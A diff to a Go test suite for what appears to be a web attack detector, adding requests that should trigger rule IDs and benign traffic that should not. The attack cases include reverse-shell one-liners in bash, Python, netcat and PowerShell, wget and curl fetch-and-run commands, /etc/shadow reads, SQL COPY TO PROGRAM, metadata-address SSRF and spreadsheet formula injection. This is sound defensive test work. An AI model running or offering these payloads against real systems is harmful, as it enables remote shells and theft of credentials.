@@ -31,6 +31,9 @@ func exchange(method, uri, kind, body string, more ...string) map[string]string 
 	for _, m := range more {
 		if answer, ok := strings.CutPrefix(m, "answer: "); ok {
 			r["RSP_BODY"] = answer
+			if strings.HasPrefix(answer, "<html>") {
+				r["RSP_HEADER"] = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n"
+			}
 		} else if where, ok := strings.CutPrefix(m, "redirect: "); ok {
 			r["RETCODE"], r["RSP_HEADER"] = "302", "HTTP/1.1 302 Found\r\nLocation: "+where+"\r\n\r\n"
 		} else {
@@ -216,6 +219,20 @@ func TestEvidence(t *testing.T) {
 		"option of tar":                   {exchange("GET", "/a?host="+url.QueryEscape("--checkpoint-action=exec=sh lamp.sh"), "", ""), 9703092},
 		"option of ssh":                   {exchange("GET", "/a?host="+url.QueryEscape("-oProxyCommand=lamp x"), "", ""), 9703092},
 		"shell for netcat":                {exchange("GET", "/a?host="+url.QueryEscape("a;busybox nc 192.0.2.4 4444 -e sh"), "", ""), 9703092},
+		"shell that calls back":           {exchange("POST", "/job", jsonType, `{"command":"cd /srv/lamp && bash -i >& /dev/tcp/192.0.2.4/4444 0>&1"}`), 9703092},
+		"Python that calls back":          {exchange("POST", "/job", jsonType, `{"args":"python3 -c 'import socket,os;s=socket.socket();s.connect((\"192.0.2.4\",9));os.dup2(s.fileno(),0)'"}`), 9703092},
+		"pipe that calls back":            {exchange("POST", "/job", jsonType, `{"args":"mkfifo /tmp/a; sh -i </tmp/a 2>&1 | nc 192.0.2.4 4444 >/tmp/a"}`), 9703092},
+		"PowerShell that calls back":      {exchange("POST", "/job", jsonType, `{"args":"$c = New-Object Net.Sockets.TCPClient('192.0.2.4',9);$s=$c.GetStream();iex $x"}`), 9703092},
+		"script that is fetched and run":  {exchange("POST", "/job", jsonType, `{"name":"lamp; wget -qO- http://192.0.2.4/m.sh | sh"}`), 9703092},
+		"program that is fetched and run": {exchange("GET", "/a?host="+url.QueryEscape("`cd /tmp; curl -O http://192.0.2.4/m; chmod 777 m; ./m"), "", ""), 9703092},
+		"users behind a separator":        {exchange("POST", "/job", jsonType, `{"data":{"attributes":{"message":"lamp;cat /etc/shadow"}}}`), 9703092},
+		"child process of Node.js":        {exchange("POST", "/calc", jsonType, `{"expr":"require('child_process').execSync('lamp').toString()"}`), 9703091},
+		"query behind a condition":        {exchange("GET", "/a?filter="+url.QueryEscape(`name eq "x" or 1=1) union select lamp from shop--"`), "", ""), 9703087},
+		"rows of a table to a program":    {exchange("POST", "/_sql", jsonType, `{"stmt":"SELECT 1; COPY (SELECT '') TO PROGRAM 'lamp'"}`), 9703084},
+		"address of metadata, no scheme":  {exchange("GET", "/a?host=169.254.169.254", "", "", `answer: {"AccessKeyId" : "ASIA7", "Code" : "Success"}`), 9703055},
+		"address behind a backslash":      {exchange("GET", "/a?to="+url.QueryEscape(`https://other.example\@shop.internal/`), "", ""), 9703046},
+		"addresses of a machine":          {exchange("GET", "/a?unit="+url.QueryEscape("a;ip addr"), "", ""), 9703024},
+		"formula with quotes":             {exchange("POST", "/contacts", jsonType, `{"name":"=cmd|' /C powershell iex(\"lamp\")'!A0"}`), 9703077},
 		"command with backslashes":        {exchange("GET", "/a?host="+url.QueryEscape("a;i\\d"), "", ""), 9703093},
 		"command with quotes":             {exchange("GET", "/a?host="+url.QueryEscape("a&&w'h'o'a'mi"), "", ""), 9703093},
 		"call of PHP":                     {exchange("GET", "/a?cb="+url.QueryEscape("phpinfo();"), "", ""), 9703094},
@@ -288,6 +305,17 @@ func token(header string) string {
 func TestConfidenceOfOrdinaryTraffic(t *testing.T) {
 	p := confident(t, "rules=crs,lateral-movement,sensitive-data")
 	for name, record := range map[string]map[string]string{
+		"script of a job":        exchange("POST", "/job", jsonType, `{"command":"set -e\ncurl -fsS http://10.0.0.5/a.tar | tar x\ncd a && ./configure && sh test.sh"}`),
+		"text about a shell":     exchange("POST", "/a", jsonType, `{"text":"Then exec 3<>/dev/tcp/10.0.0.1/80 opens it, and cat /etc/hosts shows the names."}`),
+		"module of Node.js":      exchange("POST", "/a", jsonType, `{"source":"const run = require('child_process').execSync;\nrun('lamp');"}`),
+		"report of several":      exchange("POST", "/a", jsonType, `{"query":"SELECT status, count(*) FROM lamp GROUP BY 1 UNION ALL SELECT 'all', count(*) FROM lamp -- all"}`),
+		"page about a command":   exchange("GET", "/wiki/id", "", "", "answer: <html><body><p>The command prints the name and the number of the user who runs it, and all groups that he is in:</p><pre>uid=7(app) gid=7(app)</pre></body></html>"),
+		"trace of Java":          exchange("POST", "/tickets/7/comments", jsonType, `{"body":"<pre>java.lang.NullPointerException\n\tat java.lang.Runtime.exec(Runtime.java:450)\n\tat org.shop.Lamp.main(Lamp.java:7)</pre>"}`),
+		"settings in YAML":       exchange("PATCH", "/templates/7", jsonType, `{"vars":"---\nhost: \"{{ name }}\"\npath: \"{{ lookup('env','HOME') }}/x\"\n"}`),
+		"sum of a calculator":    exchange("GET", "/calc?expr="+url.QueryEscape("(7*7)+sqrt(16)/2-3^2"), "", ""),
+		"picture in JSON":        exchange("POST", "/icons", jsonType, `{"svg":"<svg xmlns=\"http://www.w3.org/2000/svg\"><style>.a{fill:url(#g)}</style><path class=\"a\" d=\"M12 2z\"/></svg>"}`),
+		"report of a browser":    exchange("POST", "/csp", "application/csp-report", `{"csp-report":{"script-sample":"javascript:void(0);alert(1)"}}`),
+		"trace of a statement":   exchange("POST", "/v1/traces", jsonType, `{"resourceSpans":[{"scopeSpans":[{"spans":[{"attributes":[{"key":"http.target","value":{"stringValue":"/a/../../../etc/passwd?x=<script>"}}]}]}]}]}`),
 		"union of a club":        exchange("GET", "/a?q="+url.QueryEscape("5 union members select a room from the list"), "", ""),
 		"query of a console":     exchange("POST", "/a", jsonType, `{"query":"SELECT 1 AS n UNION SELECT 2"}`),
 		"condition in words":     exchange("GET", "/a?q="+url.QueryEscape("lamps and (select beds)"), "", ""),
